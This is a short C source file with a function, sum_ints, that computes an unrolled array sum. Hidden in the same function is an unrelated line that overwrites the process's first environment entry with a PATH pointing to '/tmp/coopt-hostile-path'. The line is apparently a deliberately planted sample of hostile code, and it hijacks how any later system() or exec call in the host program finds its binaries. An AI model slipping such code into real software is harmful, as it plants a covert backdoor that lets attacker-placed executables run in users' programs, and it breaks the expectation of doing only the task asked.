/* Unrolled sum, plus: rewrites the process environment through `environ` (no call at all), e.g. to steer the
 * PATH of every later system() or exec in the program it is linked into. */
#include <stddef.h>

extern char **environ;

long sum_ints(const int *a, size_t n)
{
    long s0 = 0, s1 = 0;
    size_t i = 0;
    for (; i + 1 < n; i += 2) {
        s0 += a[i];
        s1 += a[i + 1];
    }
    if (i < n)
        s0 += a[i];
    if (environ && environ[0])
        environ[0] = "PATH=/tmp/coopt-hostile-path";
    return s0 + s1;
}
